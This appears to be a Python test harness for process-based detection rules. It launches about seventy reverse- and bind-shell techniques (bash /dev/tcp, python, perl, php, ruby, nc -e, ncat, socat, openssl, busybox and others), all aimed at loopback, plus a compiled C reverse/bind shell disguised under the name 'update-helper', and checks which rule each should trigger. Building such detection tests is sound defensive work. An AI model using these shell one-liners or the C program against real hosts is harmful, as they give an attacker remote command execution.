"""Shells for the network, as attackers' handbooks have them: by many tools, towards them and from them.

In:    a place for fifos and programs; the attacker's end, which accepts, keeps and never sends.
Out:   for each way the processes that it consists of, and what has to be said of which of them.
Never: talks to anything but loopback; runs what comes from the other end.
"""
import dataclasses
import os
import pathlib
import socket
import subprocess

import attacks
import witness

HERE = "127.0.0.1"


@dataclasses.dataclass
class Way:
    """One technique. In its texts {port} is the attacker's port, {own} a free one, {fifo} a path.

    The rule has to be about a process that runs `program`: the started one, or one below it.
    """
    name: str
    command: str
    rule: str
    program: str
    udp: bool = False      # the other end is a datagram socket: nothing to accept
    bind: bool = False     # it listens on {own} …
    connect: bool = True   # … and somebody connects; False: it waits
    feed: str = ""         # what it reads from its standard input


def sh(text):
    return ["/bin/bash", "-c", text]


PY_CONNECT = ("import socket,os,subprocess as p;s=socket.create_connection(('127.0.0.1',{port}));"
              "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];")
PY_BIND = ("import socket,os,subprocess as p;l=socket.create_server(('127.0.0.1',{own}));"
           "s=l.accept()[0];[os.dup2(s.fileno(),fd) for fd in (0,1,2)];")
PERL_CONNECT = ("use Socket;socket(S,PF_INET,SOCK_STREAM,6);"
                "connect(S,sockaddr_in({port},inet_aton(\"127.0.0.1\")));")
PERL_BIND = ("use Socket;socket(L,PF_INET,SOCK_STREAM,6);setsockopt(L,SOL_SOCKET,SO_REUSEADDR,1);"
             "bind(L,sockaddr_in({own},inet_aton(\"127.0.0.1\")));listen(L,1);accept(S,L);")
PERL_SHELL = "open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");"
NODE_SHELL = "const c=require(\"child_process\").spawn(\"/bin/sh\",[]);s.pipe(c.stdin);c.stdout.pipe(s);"
LUA = "local s=require(\"socket\");"
GAWK = ("while((s|&getline c)>0){{while((c|&getline l)>0)print l|&s;close(c)}}")
LOADER = next(pathlib.Path("/").glob("lib*/ld-linux-*.so*"), pathlib.Path("/lib/ld.so")).resolve()
EVALUATE = "while read -r l; do eval \"$l\"; done"
SCRIPT = ("exec /usr/bin/python3 -c \"import socket,{module};s=socket.create_connection(('127.0.0.1',{{port}}));"
          "{call}\"")
TCL = ("set s [socket 127.0.0.1 {port}];fconfigure $s -buffering line;"
       "fileevent $s readable {{gets $s c;puts $s [exec sh -c $c]}};vwait forever\n")

REVERSE = [
    Way("bash, exec and a descriptor", "exec 196<>/dev/tcp/127.0.0.1/{port}; sh <&196 >&196 2>&196; :",
        "shell-on-network", "dash"),
    Way("bash, line by line", "exec 5<>/dev/tcp/127.0.0.1/{port}; cat <&5|while read -r c; do $c >&5; done",
        "shell-holds-connection", "bash"),
    Way("bash over UDP", "exec sh -i >&/dev/udp/127.0.0.1/{port} 0>&1", "shell-on-network", "dash",
        udp=True),
    Way("ksh", "exec ksh -c 'ksh -i >/dev/tcp/127.0.0.1/{port} 2>&1 <&1; :'", "shell-on-network",
        "ksh93"),
    Way("zsh", "exec zsh -c 'zmodload zsh/net/tcp;ztcp 127.0.0.1 {port};"
        "zsh >&$REPLY 2>&$REPLY 0>&$REPLY; :'", "shell-on-network", "zsh"),
    Way("python", "exec /usr/bin/python3 -c \"" + PY_CONNECT + "p.call(['/bin/sh','-i'])\"",
        "shell-on-network", "dash"),
    Way("python with a pty", "exec /usr/bin/python3 -c \"" + PY_CONNECT + "import pty;pty.spawn('bash')\"",
        "shell-on-remote-terminal", "bash"),
    Way("python over UDP", "exec /usr/bin/python3 -c \"import socket,os,subprocess as p;"
        "s=socket.socket(2,2);s.connect(('127.0.0.1',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
        "p.call(['/bin/sh','-i'])\"", "shell-on-network", "dash", udp=True),
    Way("python with pipes", "exec /usr/bin/python3 -c \"import socket,subprocess as p;"
        "s=socket.create_connection(('127.0.0.1',{port}));"
        "c=p.Popen(['sh'],stdin=p.PIPE,stdout=p.PIPE);c.stdin.write(s.recv(9))\"",
        "shell-behind-relay", "dash"),
    Way("perl", "exec perl -e '" + PERL_CONNECT + PERL_SHELL + "'", "shell-on-network", "dash"),
    Way("ruby", "exec ruby -rsocket -e 'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"127.0.0.1\",{port}));"
        "sleep'", "shell-on-network", "dash"),
    Way("ruby that runs commands", "exec ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",{port});"
        "while(c=s.gets);IO.popen(c,\"r\"){{|i|s.print i.read}};end'", "inline-code-on-network", "ruby3.1"),
    Way("php", "exec php -r '$s=fsockopen(\"127.0.0.1\",{port});exec(\"sh <&3 >&3 2>&3\");'",
        "shell-on-network", "dash"),
    Way("php with proc_open", "exec php -r '$s=fsockopen(\"127.0.0.1\",{port});"
        "$p=proc_open(\"/bin/sh -i\",[0=>$s,1=>$s,2=>$s],$q);proc_close($p);'", "shell-on-network", "dash"),
    Way("php with pipes", "exec php -r '$s=fsockopen(\"127.0.0.1\",{port});"
        "$p=proc_open([\"/bin/sh\"],[[\"pipe\",\"r\"],[\"pipe\",\"w\"],[\"pipe\",\"w\"]],$q);"
        "while($c=fgets($s))fwrite($q[0],$c);'", "shell-behind-relay", "dash"),
    Way("node", "exec node -e 'const s=require(\"net\").connect({port},\"127.0.0.1\");" + NODE_SHELL + "'",
        "shell-behind-relay", "dash"),
    Way("lua", "exec lua5.4 -e '" + LUA + "local t=assert(s.tcp());t:connect(\"127.0.0.1\",{port});"
        "while true do local c=t:receive();local f=io.popen(c,\"r\");t:send(f:read(\"*a\"))end'",
        "inline-code-on-network", "lua5.4"),
    Way("gawk", "exec gawk 'BEGIN{{s=\"/inet/tcp/0/127.0.0.1/{port}\";print \"\"|&s;" + GAWK + "}}'",
        "inline-code-on-network", "gawk"),
    Way("gawk over UDP", "exec gawk 'BEGIN{{s=\"/inet/udp/0/127.0.0.1/{port}\";print \"\"|&s;" + GAWK + "}}'",
        "inline-code-on-network", "gawk", udp=True),
    Way("tclsh", "exec tclsh", "code-from-input", "tclsh8.6", feed=TCL),
    Way("openbsd's nc and a fifo", "cat {fifo}|sh -i 2>&1|nc.openbsd 127.0.0.1 {port} >{fifo}",
        "shell-behind-relay", "dash"),
    Way("openbsd's nc and a fifo over UDP", "cat {fifo}|sh -i 2>&1|nc.openbsd -u 127.0.0.1 {port} >{fifo}",
        "shell-behind-relay", "dash", udp=True),
    Way("openbsd's nc around a shell", "nc.openbsd 127.0.0.1 {port} <{fifo}|bash >{fifo} 2>&1",
        "shell-behind-relay", "bash"),
    Way("nc -e", "exec nc.traditional 127.0.0.1 {port} -e /bin/sh", "shell-on-network", "dash"),
    Way("nc -c", "exec nc.traditional -c 'sh -i' 127.0.0.1 {port}", "shell-on-network", "dash"),
    Way("nc -u -e", "exec nc.traditional -u 127.0.0.1 {port} -e /bin/sh", "shell-on-network", "dash",
        udp=True),
    Way("ncat -e", "exec ncat 127.0.0.1 {port} -e /bin/bash", "shell-behind-relay", "bash"),
    Way("ncat -u --sh-exec", "exec ncat -u 127.0.0.1 {port} --sh-exec 'bash -i'", "shell-behind-relay",
        "bash", udp=True),
    Way("socat EXEC", "exec socat TCP:127.0.0.1:{port} EXEC:/bin/bash,stderr", "shell-behind-relay", "bash"),
    Way("socat EXEC with pipes", "exec socat TCP:127.0.0.1:{port} EXEC:/bin/sh,pipes", "shell-behind-relay",
        "dash"),
    Way("socat SYSTEM", "exec socat TCP:127.0.0.1:{port} SYSTEM:'bash -i'", "shell-behind-relay", "bash"),
    Way("socat with a pty", "exec socat TCP:127.0.0.1:{port} EXEC:'bash -li',pty,stderr,setsid,sane",
        "shell-on-remote-terminal", "bash"),
    Way("socat over UDP", "exec socat UDP:127.0.0.1:{port} EXEC:/bin/sh", "shell-behind-relay", "dash",
        udp=True),
    Way("socat without a fork", "exec socat TCP:127.0.0.1:{port} EXEC:/bin/sh,nofork", "shell-on-network",
        "dash"),
    Way("telnet and a fifo", "telnet 127.0.0.1 {port} <{fifo}|sh >{fifo} 2>&1", "shell-behind-relay", "dash"),
    Way("openssl and a fifo", "sh -i <{fifo} 2>&1|openssl s_client -quiet -connect 127.0.0.1:{port} >{fifo}",
        "shell-behind-relay", "dash"),
    Way("busybox nc -e", "exec busybox nc 127.0.0.1 {port} -e /bin/sh", "shell-on-network", "dash"),
    Way("busybox nc and its shell", "cat {fifo}|busybox sh -i 2>&1|busybox nc 127.0.0.1 {port} >{fifo}",
        "shell-behind-relay", "busybox"),
    Way("a coprocess", "coproc nc.openbsd 127.0.0.1 {port}; exec sh <&${{COPROC[0]}} >&${{COPROC[1]}}",
        "shell-behind-relay", "dash"),
    Way("bash by the loader", "exec 5<>/dev/tcp/127.0.0.1/{port}; exec {loader} /bin/bash -i <&5 >&5 2>&5 5>&-",
        "shell-on-network", LOADER.name),
    Way("a loop that evaluates", "nc.openbsd 127.0.0.1 {port} <{fifo}|bash -c '" + EVALUATE + "' >{fifo} 2>&1",
        "shell-behind-relay", "bash"),
    Way("standard input as a script", "nc.openbsd 127.0.0.1 {port} <{fifo}|sh /dev/stdin >{fifo} 2>&1",
        "shell-behind-relay", "dash"),
    Way("a word for the shell", "nc.openbsd 127.0.0.1 {port} <{fifo}|sh -s disksup >{fifo} 2>&1",
        "shell-behind-relay", "dash"),
    Way("two cats", "nc.openbsd 127.0.0.1 {port} <{fifo}|cat|cat|sh >{fifo} 2>&1", "shell-behind-relay", "dash"),
    Way("python's prompt", "nc.openbsd 127.0.0.1 {port} <{fifo}|/usr/bin/python3 -i >{fifo} 2>&1",
        "program-behind-relay", "python3.11"),
    Way("awk", "nc.openbsd 127.0.0.1 {port} <{fifo}|mawk -W interactive '{{system($0)}}' >{fifo} 2>&1",
        "program-behind-relay", "mawk"),
    Way("xargs", "nc.openbsd 127.0.0.1 {port} <{fifo}|xargs -I% sh -c % >{fifo} 2>&1", "program-behind-relay",
        "xargs"),
    Way("a tool on a connection", "(exec 5<>/dev/tcp/127.0.0.1/{port}; exec busybox vi <&5 >&5 2>&5 5>&-); :",
        "program-on-network", "busybox"),
    Way("script between python's pipes", SCRIPT.format(
        module="subprocess as p", call="p.Popen(['script','-qc','bash','/dev/null'],stdin=p.PIPE,stdout=p.PIPE).wait()"),
        "shell-on-remote-terminal", "bash"),
    Way("script in python's terminal", SCRIPT.format(
        module="pty", call="pty.spawn(['script','-qc','bash','/dev/null'],master_read=lambda f:s.recv(9))"),
        "shell-on-remote-terminal", "bash"),
    Way("a client's connection in its child", SCRIPT.format(
        module="subprocess as p", call="p.call(['bash','-c','while read -r -u %d l; do eval \\$l; done'%s.fileno()],"
        "pass_fds=[s.fileno()])"), "shell-holds-connection", "bash"),
    Way("script between pipes", "nc.openbsd 127.0.0.1 {port} <{fifo}|script -qc bash /dev/null >{fifo} 2>&1",
        "shell-on-remote-terminal", "bash"),
    Way("expect", "exec expect -c 'spawn nc.openbsd 127.0.0.1 {port}; spawn bash; sleep 1000'",
        "shell-on-remote-terminal", "bash"),
    Way("ruby with a pty", "exec ruby -rsocket -rpty -e 's=TCPSocket.new(\"127.0.0.1\",{port});"
        "PTY.spawn(\"bash\"){{|r,w,p|IO.copy_stream(s,w)}}'", "shell-on-remote-terminal", "bash"),
    Way("a program in C", "exec {c} connect {port}", "shell-on-network", "dash"),
    Way("a program in C with a pty", "exec {c} pty {port}", "shell-on-remote-terminal", "bash"),
]

BIND = [
    Way("python binds", "exec /usr/bin/python3 -c \"" + PY_BIND + "p.call(['/bin/sh','-i'])\"",
        "shell-on-network", "dash", bind=True),
    Way("perl binds", "exec perl -e '" + PERL_BIND + PERL_SHELL + "'", "shell-on-network", "dash", bind=True),
    Way("php binds", "exec php -r '$l=stream_socket_server(\"tcp://127.0.0.1:{own}\");"
        "$s=stream_socket_accept($l,99);exec(\"/bin/sh -i <&4 >&4 2>&4\");'", "shell-on-network", "dash",
        bind=True),
    Way("ruby binds", "exec ruby -rsocket -e 's=TCPServer.new(\"127.0.0.1\",{own}).accept;"
        "system(\"sh\",[:in,:out,:err]=>s)'", "shell-on-network", "dash", bind=True),
    Way("node binds", "exec node -e 'require(\"net\").createServer(s=>{{" + NODE_SHELL
        + "}}).listen({own},\"127.0.0.1\")'", "shell-behind-relay", "dash", bind=True),
    Way("lua binds", "exec lua5.4 -e '" + LUA + "local l=s.bind(\"127.0.0.1\",{own});local c=l:accept();"
        "while true do local x=c:receive();io.popen(x)end'", "inline-code-on-network", "lua5.4", bind=True),
    Way("gawk binds", "exec gawk 'BEGIN{{s=\"/inet/tcp/{own}/0/0\";" + GAWK + "}}'",
        "inline-code-on-network", "gawk", bind=True, connect=False),
    Way("nc -l -e waits", "exec nc.traditional -l -p {own} -s 127.0.0.1 -e /bin/sh", "hands-out-shell",
        "nc.traditional", bind=True, connect=False),
    Way("nc -l -c attached waits", "exec nc.traditional -l -p {own} -s 127.0.0.1 '-csh -i'", "hands-out-shell",
        "nc.traditional", bind=True, connect=False),
    Way("ncat -lkc attached waits", "exec ncat -lkc'bash -i' 127.0.0.1 {own}", "hands-out-shell", "ncat", bind=True,
        connect=False),
    Way("ncat -k -e serves", "exec ncat -lk 127.0.0.1 {own} -e /bin/bash", "shell-behind-relay", "bash",
        bind=True),
    Way("openbsd's nc -l and a fifo", "cat {fifo}|sh -i 2>&1|nc.openbsd -lN 127.0.0.1 {own} >{fifo}",
        "shell-behind-relay", "dash", bind=True, connect=False),
    Way("ncat -c waits", "exec ncat --ssl -lk 127.0.0.1 {own} -c 'exec sh'", "hands-out-shell", "ncat", bind=True,
        connect=False),
    Way("socat waits", "exec socat TCP-LISTEN:{own},bind=127.0.0.1,reuseaddr,fork EXEC:/bin/sh",
        "hands-out-shell", "socat", bind=True, connect=False),
    Way("socat serves with a pty", "exec socat TCP-LISTEN:{own},bind=127.0.0.1,fork "
        "EXEC:bash,pty,stderr,setsid", "shell-on-remote-terminal", "bash", bind=True),
    Way("busybox nc -ll -e waits", "exec busybox nc -ll -p {own} -e /bin/sh", "hands-out-shell", "busybox",
        bind=True, connect=False),
    Way("systemd-socket-activate with a shell", "exec systemd-socket-activate -a --inetd -l 127.0.0.1:{own} "
        "/bin/sh -i", "shell-on-network", "dash", bind=True),
    Way("a program in C binds", "exec {c} listen {own}", "shell-on-network", "dash", bind=True),
]

C_PROGRAM = r"""
#include <arpa/inet.h>
#include <pty.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char** argv) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2])),
                          .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int s = socket(AF_INET, SOCK_STREAM, 0), master;
  if (!strcmp(argv[1], "listen")) {
    bind(s, (void*)&a, sizeof a), listen(s, 1);
    s = accept(s, 0, 0);
  } else if (connect(s, (void*)&a, sizeof a)) {
    return 1;
  }
  if (!strcmp(argv[1], "pty")) {
    if (forkpty(&master, 0, 0, 0)) pause();
    execl("/bin/bash", "bash", NULL);
  }
  dup2(s, 0), dup2(s, 1), dup2(s, 2);
  execl("/bin/sh", "sh", "-i", NULL);
}
"""


def compile_shell(folder):
    source, program = folder / "shell.c", folder / "update-helper"
    source.write_text(C_PROGRAM, encoding="ascii")
    done = witness.run("cc", "-o", program, source, "-lutil")
    if done.returncode != 0:
        raise RuntimeError(done.stderr.decode())
    return program


class Started:
    """One way, begun: its first process, and what has to stay open."""

    def __init__(self, way, process, kept):
        self.way, self.process, self.kept = way, process, kept
        self.pids = set()

    def tree(self):
        return {self.process.pid, *attacks.descendants(self.process.pid)}

    def find(self):
        witness.wait_until(self.look, f"{self.way.program} runs")

    def look(self):
        self.pids = {pid for pid in self.tree() if attacks.program_of(pid) == self.way.program}
        return self.pids


def start(way, folder, number, program):
    kept = []
    port = 0
    if way.udp:
        kept.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    elif not way.bind:
        kept.append(socket.create_server((HERE, 0)))
    if kept:
        kept[0].bind((HERE, 0)) if way.udp else None
        port = kept[0].getsockname()[1]
    own = attacks.free_port() if way.bind else 0
    fifo = pathlib.Path("/tmp") / f"sw-{os.getpid()}-{number}"
    if "{fifo}" in way.command:
        os.mkfifo(fifo)
        witness.at_end(os.unlink, fifo)
    words = {"port": port, "own": own, "fifo": fifo, "c": program, "loader": LOADER}
    process = attacks.start(sh(way.command.format(**words)), cwd=folder,
                            stdin=subprocess.PIPE if way.feed else subprocess.DEVNULL)
    if way.feed:
        process.stdin.write(way.feed.format(**words).encode())
        process.stdin.flush()
    return Started(way, process, kept), own


def settle(started, own):
    """Until the connection is there, from whichever side."""
    way = started.way
    if way.bind:
        attacks.listens(own)
        if way.connect:
            started.kept.append(socket.create_connection((HERE, own)))
    elif not way.udp:
        started.kept[0].settimeout(witness.PATIENCE / 4)
        try:
            started.kept.append(started.kept[0].accept()[0])
        except OSError as failure:
            raise RuntimeError("nobody connected") from failure
    started.find()


def do_all(folder):
    program = compile_shell(folder)
    begun = [start(way, folder, number, program) for number, way in enumerate(REVERSE + BIND)]
    problems = []
    for started, own in begun:
        try:
            settle(started, own)
        except (OSError, RuntimeError) as failure:
            problems.append(f"{started.way.name}: {failure}; there are "
                            f"{[attacks.program_of(pid) for pid in started.tree()]}")
    return [started for started, _ in begun if started.pids], problems
